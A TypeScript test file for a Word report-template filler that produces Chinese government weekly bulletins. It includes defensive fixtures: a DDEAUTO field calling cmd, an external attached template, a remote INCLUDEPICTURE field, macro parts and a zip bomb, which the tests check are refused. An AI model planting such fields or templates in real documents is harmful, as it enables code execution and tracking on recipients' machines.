import { readdir, readFile } from 'node:fs/promises'
import { Document, Packer, Paragraph, TextRun } from 'docx'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { UsageFault } from '../../src/core/fault.ts'
import { fillTemplate } from '../../src/reports/docx/fill.ts'
import { exampleTemplate } from '../../src/reports/docx/index.ts'
import { placeholders } from '../../src/reports/docx/placeholders.ts'
import { readTemplate } from '../../src/reports/docx/template-file.ts'
import { planted } from './planted.ts'

/** A document of these paragraphs, each of the runs that it is given. */
const written = async (...paragraphs: readonly (readonly string[])[]): Promise<Uint8Array> => {
  const children = paragraphs.map(
    (runs) => new Paragraph({ children: runs.map((text) => new TextRun(text)) }),
  )
  return new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ children }] })))
}

const documentIn = (bytes: Uint8Array): string =>
  strFromU8(unzipSync(bytes)['word/document.xml'] ?? new Uint8Array())
const textIn = (bytes: Uint8Array): string => documentIn(bytes).replaceAll(/<[^>]+>/gu, '')
const filled = async (bytes: Uint8Array): Promise<Uint8Array> =>
  fillTemplate(planted, await readTemplate('t.docx', bytes))

const field = (...pieces: readonly string[]): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`

const withFields = async (fields: string): Promise<Uint8Array> =>
  changed(await written(['{{basis}}'], ['后']), (parts) => {
    const text = strFromU8(parts['word/document.xml'] ?? new Uint8Array())
    const end = text.lastIndexOf('</w:p>')
    parts['word/document.xml'] = strToU8(text.slice(0, end) + fields + text.slice(end))
  })

const changed = (bytes: Uint8Array, change: (parts: Record<string, Uint8Array>) => void): Uint8Array => {
  const parts = unzipSync(bytes)
  change(parts)
  return zipSync(parts)
}

describe('templates', () => {
  test('what Word split over runs is one placeholder', async () => {
    const text = textIn(
      await filled(
        await written(
          ['期号 {{num', 'ber}}，', '{', '{ period }', '}。'],
          ['{{', 'table:counties', '}}'],
          ['{{bas', 'is}}'],
        ),
      ),
    )
    expect(text).not.toContain('{{')
    expect(text).toContain('期号 2018年第26期，2018年第26周。')
    expect(text).toContain('台账修订号：42')
  })

  test('tables and charts take the place of their paragraph; what the period has not is said', async () => {
    const bytes = await filled(
      await written(
        ['前'],
        ['{{section:migration}}'],
        ['{{table:incidents}}'],
        ['{{chart:burndown}}'],
        ['{{basis}}'],
        ['后'],
      ),
    )
    const text = textIn(bytes)
    expect(text).toMatch(/^前.*系统迁移燃尽图.*本期没有“未归档的安全事件”。.*系统迁移燃尽图.*后$/u)
    const parts = Object.keys(unzipSync(bytes))
    expect(parts.some((name) => name.endsWith('.png'))).toBe(true)
    const ids = [...documentIn(bytes).matchAll(/<wp:docPr id="(\d+)"/gu)].map(([, id]) => id)
    expect(ids).toHaveLength(2)
    expect(new Set(ids).size).toBe(2)
  })

  test('the same report and template give the same bytes', async () => {
    const example = await exampleTemplate()
    const [first, second] = [await filled(example), await filled(example)]
    expect(Buffer.compare(first, second)).toBe(0)
    expect(textIn(first)).not.toContain('{{')
  })

  test('each placeholder can be filled', async () => {
    const all = placeholders.map(({ key }) => [`{{${key}}}`])
    const text = textIn(await filled(await written(...all)))
    expect(text).not.toContain('{{')
    expect(text).toContain('开封市电子政务外网建设和系统迁移上云周通报')
  })

  test('what they name is what sections, tables and charts are called', async () => {
    const folder = new URL('../../src/reports/assemble/', import.meta.url)
    const sources = await Promise.all(
      (await readdir(folder)).map((name) => readFile(new URL(name, folder), 'utf8')),
    )
    const named = placeholders.filter(({ key }) => key.includes(':'))
    expect(named.length).toBeGreaterThan(30)
    for (const { key, means } of named)
      expect(
        sources.some((source) => source.includes(`${means}'`) || source.includes(`${means}\``)),
        key,
      ).toBe(true)
  })

  test('an unknown one is told with the nearest and all that are known', async () => {
    const bytes = await written(['{{perid}} {{table:goal}}'], ['{{basis}}'])
    const fault = await readTemplate('t.docx', bytes).catch((error: unknown) => error)
    expect(fault).toBeInstanceOf(UsageFault)
    expect((fault as UsageFault).problems).toMatchObject([
      { message: 'expected a known placeholder, got {{perid}}', suggestion: 'did you mean {{period}}?' },
      {
        message: 'expected a known placeholder, got {{table:goal}}',
        suggestion: 'did you mean {{table:goals}}?',
      },
      { message: expect.stringContaining('{{title}} {{organ}} {{number}}') as string },
    ])
  })

  const refused: readonly (readonly [string, () => Promise<Uint8Array>, RegExp])[] = [
    ['no {{basis}}', () => written(['{{title}}']), /expected \{\{basis\}\}/u],
    [
      'text beside what takes whole paragraphs',
      () => written(['前 {{table:', 'goals}} 后'], ['{{basis}}']),
      /expected \{\{table:goals\}\} in a paragraph of its own, got 前 \{\{table:goals\}\} 后/u,
    ],
    ['no ZIP', () => Promise.resolve(strToU8('text')), /expected a Word document/u],
    ['another ZIP', () => Promise.resolve(zipSync({ 'a.txt': strToU8('x') })), /another kind of ZIP/u],
    [
      'macros',
      async () =>
        changed(await written(['{{basis}}']), (parts) => {
          parts['word/vbaProject.bin'] = strToU8('x')
        }),
      /contains macros or embedded objects/u,
    ],
    [
      'a macro-enabled type',
      async () =>
        changed(await written(['{{basis}}']), (parts) => {
          const types = strFromU8(parts['[Content_Types].xml'] ?? new Uint8Array())
          parts['[Content_Types].xml'] = strToU8(
            types.replace(
              'openxmlformats-officedocument.wordprocessingml.document.main',
              'ms-word.document.macroEnabled.main',
            ),
          )
        }),
      /contains macros/u,
    ],
    [
      'a template elsewhere',
      async () =>
        changed(await written(['{{basis}}']), (parts) => {
          parts['word/_rels/settings.xml.rels'] = strToU8(
            '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>',
          )
        }),
      /fetches nothing/u,
    ],
    [
      'a field that runs a program',
      () => withFields(field(' DDE', 'AUTO c:\\windows\\cmd ')),
      /a field DDEAUTO/u,
    ],
    [
      'a picture elsewhere, as a field',
      () => withFields('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://192.0.2.1/a.png&quot; "/>'),
      /a field INCLUDEPICTURE/u,
    ],
    [
      'a bomb',
      () => Promise.resolve(zipSync({ 'word/document.xml': new Uint8Array(101_000_000) })),
      /at most/u,
    ],
  ]
  test.each(refused)('%s is refused', async (_, make, words) => {
    const reading = readTemplate('t.docx', await make())
    await expect(reading).rejects.toThrow(UsageFault)
    await expect(reading).rejects.toThrow(words)
  })

  test('fields of its own, links among them, are left alone', async () => {
    const bytes = await withFields(field(' PAGE ') + field(' HYPERLINK ', '"https://example.org/link" '))
    expect((await readTemplate('t.docx', bytes)).keys).toEqual(['basis'])
  })

  test('whatever bytes it is given, it is a template or refused', () =>
    fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 200 }), async (bytes) => {
        await expect(readTemplate('t.docx', bytes)).rejects.toThrow(UsageFault)
      }),
      { numRuns: 50 },
    ))
})
